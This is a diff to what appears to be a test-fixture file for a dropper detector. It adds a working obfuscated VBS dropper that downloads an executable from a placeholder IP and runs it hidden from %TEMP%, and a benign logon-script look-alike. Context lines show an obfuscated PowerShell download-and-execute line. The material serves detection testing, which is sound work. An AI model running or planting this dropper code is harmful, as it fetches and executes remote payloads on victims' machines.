@@ -129,6 +129,18 @@ S`top-Pro`cess -Name ms-teams -ErrorAction SilentlyContinue
 $c = ("{{1}}{{0}}" -f 'wr','i'); $x = ("{{1}}{{0}}" -f 'ex','i')
 & $c -Uri http://203.0.113.81/teams/fix.ps1 -UseBasicParsing | & $x
 """,
+    # invoice_viewer.vbs with its ProgIDs reversed (StrReverse) and salted (Replace), as VBS droppers do.
+    "lures/droppers/reversed_viewer.vbs": f"""' Invoice viewer setup. {MARK}
+Set http = CreateObject(StrReverse("PTTHLMX.2LMXSM"))
+http.Open "GET", "http://198.51.100.21/viewer.exe", False
+http.Send
+Set st = CreateObject(Replace("ADO#DB.Str#eam", "#", ""))
+st.Type = 1 : st.Open : st.Write http.ResponseBody
+Set sh = CreateObject(Replace("WSc#ript.Sh#ell", "#", ""))
+path = sh.ExpandEnvironmentStrings("%TEMP%") & "\\viewer.exe"
+st.SaveToFile path, 2
+sh.Run path, 0, False
+""",
     # HTML smuggling of an installer from a bundle with an ordinary name.
     "lures/droppers/app.bundle.js": f"""/* {MARK} */
 (function () {{
@@ -143,6 +155,13 @@ $c = ("{{1}}{{0}}" -f 'wr','i'); $x = ("{{1}}{{0}}" -f 'ex','i')
 }})();
 """,
     # ---- clean look-alikes
+    # A logon script: Replace on a variable path, StrReverse in a self-test, a local shortcut; no download.
+    "clean/droppers/logon_paths.vbs": f"""' Map the team share at logon. {MARK}
+Set net = CreateObject("WScript.Network")
+share = Replace("\\\\files\\team", "\\", "\\")
+If StrReverse("abc") <> "cba" Then WScript.Quit 1
+net.MapNetworkDrive "T:", share
+""",
     # A batch file escaping what cmd would read as syntax, and quoting a path: no tool, no download.
     "clean/droppers/echo_escapes.bat": f"""@echo off
 rem Build notes. {MARK}
